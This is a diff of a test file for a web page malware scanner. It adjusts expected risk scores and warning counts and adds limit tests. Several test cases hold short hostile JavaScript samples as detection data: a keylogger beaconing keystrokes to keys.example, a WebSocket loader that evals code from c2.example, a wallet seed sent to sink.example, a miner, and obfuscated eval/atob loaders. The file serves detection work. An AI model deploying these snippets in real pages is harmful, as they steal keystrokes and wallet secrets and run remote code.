@@ -10,11 +10,12 @@ import { judgeDocument } from '../src/scanners/page/document/document.ts';
 import { createPageScanner } from '../src/scanners/page/index.ts';
 import { type Indicator, LAYERS, type LayerVerdict } from '../src/scanners/page/layer.ts';
 import { readPage } from '../src/scanners/page/parse.ts';
+import type { Verdicts } from '../src/scanners/page/risk.ts';
 import { reveal } from '../src/scanners/page/script/decode.ts';
 import { COMPLETE, SCRIPT_RULES_SOURCE } from '../src/scanners/page/script/rules.ts';
 import { judgeScripts } from '../src/scanners/page/script/scripts.ts';
 import { scanWithYara } from '../src/scanners/page/script/yara.ts';
-import { judge as judgement, type Verdicts } from '../src/scanners/page/verdict.ts';
+import { judge as judgement } from '../src/scanners/page/verdict.ts';
 import { collect, runScanner } from '../src/sdk/run-scanner.ts';
 import { type Manner, scannerContract } from './contracts/scanner.ts';
 import { hostile as hostileSite } from './support/hostile-site.ts';
@@ -122,8 +123,8 @@ describe('the scripts', () => {
     ['a miner', 'var m = new CoinHive.Anonymous("key"); m.start()', 'mining in the browser', 70],
     [
       'a keylogger',
-      'let k="";document.addEventListener("keydown",e=>{k+=e.key;if(k.length>20){navigator.sendBeacon("/x",k);k=""}})',
-      'records keystrokes',
+      'let k="";document.addEventListener("keydown",e=>{k+=e.key;if(k.length>20){navigator.sendBeacon("https://keys.example/x",k);k=""}})',
+      'sends keystrokes to keys.example',
       50,
     ],
     [
@@ -152,7 +153,7 @@ describe('the scripts', () => {
     ],
     ['JSFuck', '[][(![]+[])[+[]]]'.repeat(60), 'JSFuck', 40],
     ['endless dialogs', 'while(true){alert("locked")}', 'endless dialogs', 50],
-    ['a Telegram bot', 'fetch("https://api.telegram.org/bot1:a/sendMessage")', 'Telegram bot', 70],
+    ['a Telegram bot', 'fetch("https://api.telegram.org/bot1:a/sendMessage")', 'Telegram bot', 40],
     [
       'code from a WebSocket',
       'const s=new WebSocket("wss://c2.example");s.onmessage=e=>eval(e.data)',
@@ -205,7 +206,7 @@ describe('the scripts', () => {
       'a back button trap',
       'history.pushState({},"");onpopstate=function(){location.replace("/again")}',
       'keeps visitors from leaving',
-      30,
+      15,
     ],
     ['false virus alerts', 'alert("Warning: 7 viruses found")', 'alerts that the computer is infected', 30],
     [
@@ -218,7 +219,7 @@ describe('the scripts', () => {
       'a download from another site',
       'setTimeout(()=>{location.href="https://files.example/setup.exe"},900)',
       'downloads an executable from files.example',
-      50,
+      25,
     ],
     [
       'a hidden frame',
@@ -236,7 +237,7 @@ describe('the scripts', () => {
       'a reversed URL',
       `const s=document.createElement("script");s.src="${[...'https://cdn.example/stat.js'].reverse().join('')}".split("").reverse().join("")`,
       'from cdn.example through an encoded URL',
-      55,
+      45,
     ],
     [
       'a drainer',
@@ -362,11 +363,11 @@ describe('the scripts', () => {
     const names = Array.from({ length: 60 }, (_, at) => `_0x${(0x4a00 + at).toString(16)}`);
     const code = `eval(function(p,a,c,k,e,d){return p}('0',1,1,'x'.split('|'),0,{}));eval(atob("${base64('render(document.body)')}"));${names.map((name) => `var ${name}=1;`).join('')}`;
     const { assessment } = await verdictOn(page(`<p>hello</p><script>${code}</script>`));
-    expect(assessment.threatLevel).toBe('SUSPICIOUS');
+    expect(assessment.threatLevel).not.toBe('MALICIOUS');
   });
 
   test('keep the position of decoded literals', () => {
-    expect(reveal(`a(atob("${base64('hello there')}"))`).text).toContain('a(atob("hello there"))');
+    expect(reveal(`a(atob("${base64('hello there')}"))`).text).toContain('a(("hello there"))');
     expect(reveal('var picture = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ"').hidden).toBe('');
   });
 });
@@ -498,6 +499,7 @@ describe('the flow of data', () => {
       `${seed}<script>fetch("https://sink.example/",{body:document.all.seed.value||document.getElementById("seed").value})</script>`,
     );
     expect(indicators).toContainEqual({
+      rule: 'sends-seed',
       points: 72,
       text: 'A script reads the recovery phrase of a wallet and sends it to sink.example.',
       threat: 'phishing',
@@ -593,13 +595,24 @@ describe('a limit that is reached', () => {
     ['icons', icons.repeat(230), 'LIMIT_REACHED', 30, 'BENIGN'],
     ['links', '<a href="/a">a</a>'.repeat(10_007), 'LIMIT_REACHED', 7, 'BENIGN'],
     ['characters of text', `<p>${'Roses. '.repeat(30_000)}</p>`, 'TRUNCATED', 1, 'BENIGN'],
-    ['frames', '<iframe src="/a"></iframe>'.repeat(503), 'LIMIT_REACHED', 3, 'UNKNOWN'],
+    ['frames', '<iframe src="/a"></iframe>'.repeat(1003), 'LIMIT_REACHED', 3, 'BENIGN'],
+    ['forms', '<form><input name="q"></form>'.repeat(603), 'LIMIT_REACHED', 103, 'BENIGN'],
+    ['fields', `<form>${'<input name="q">'.repeat(5003)}</form>`, 'LIMIT_REACHED', 3, 'BENIGN'],
     ['packed scripts', `<script>${packed.repeat(53)}</script>`, 'LIMIT_REACHED', 3, 'UNKNOWN'],
   ])('on %s is reported with its count', async (what, html, code, count, level) => {
     const { assessment, warnings } = await verdictOn(page(`<p>Roses</p>${html}`));
     expect(warnings).toContainEqual({ code, message: expect.stringContaining(what), count });
     expect(assessment.threatLevel).toBe(level);
   });
+});
+
+test.each([
+  ['a password', '<form><input name="q"></form>'.repeat(603), '<form><input type="password"></form>'],
+  ['a card', `<form>${'<input name="q">'.repeat(5003)}`, '<input name="cardnumber"></form>'],
+  ['a hidden frame', '<iframe src="/a"></iframe>'.repeat(1003), '<iframe src="/x" hidden></iframe>'],
+])('%s after a limit is never BENIGN', async (_what, filler, last) => {
+  const { assessment } = await verdictOn(page(`<p>Roses</p>${filler}${last}`));
+  expect(assessment.threatLevel).not.toBe('BENIGN');
 });
 
 describe('content over former limits', () => {
@@ -649,8 +662,8 @@ describe('a limit of the analysis of scripts', () => {
     [
       'obfuscation',
       'indicators of one kind',
-      2,
-      `${packer('0')}eval(atob("${base64('render(1)')}"));${Array.from({ length: 25 }, (_, at) => `var _0x${4096 + at}=1;`).join('')}`,
+      3,
+      `${packer('0')}eval(atob(x));document.write(atob(y));${Array.from({ length: 25 }, (_, at) => `var _0x${4096 + at}=1;`).join('')}`,
     ],
     [
       'code that is run',
@@ -712,7 +725,7 @@ test('brands in a host name beyond the two that count are reported', () => {
   const url = 'https://paypal.com.amazon.com.netflix.com.garden.example/';
   const { warnings } = judgeAddress(url, url);
   expect(warnings).toEqual([
-    { code: 'LIMIT_REACHED', message: expect.stringContaining('indicators of one kind'), count: 2 },
+    { code: 'LIMIT_REACHED', message: expect.stringContaining('indicators of one kind'), count: 1 },
   ]);
 });
 
